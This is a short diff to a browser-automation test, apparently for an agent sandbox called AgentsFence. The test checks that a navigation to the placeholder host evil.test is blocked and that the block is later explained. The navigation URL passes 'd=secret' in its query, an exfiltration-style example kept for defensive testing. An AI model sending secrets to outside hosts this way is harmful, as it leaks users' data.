@@ -68,7 +68,7 @@ test('blocked navigation: the next browser_snapshot reads what was blocked and w
   const nav = await tool('browser_navigate', { url: `${server.origin('evil.test')}/landing?d=secret` });
   // The navigation itself fails as Chromium reports it, with no reason in it.
   expect(nav.text).toContain('net::ERR_BLOCKED_BY_CLIENT');
-  expect(nav.text).not.toContain('evil.test is not');
+  expect(nav.text).not.toContain('outside the task');
   const snap = await tool('browser_snapshot', {});
   expect(snap.isError, snap.text).toBe(false);
   expect(snap.text).toContain('Blocked by AgentsFence');
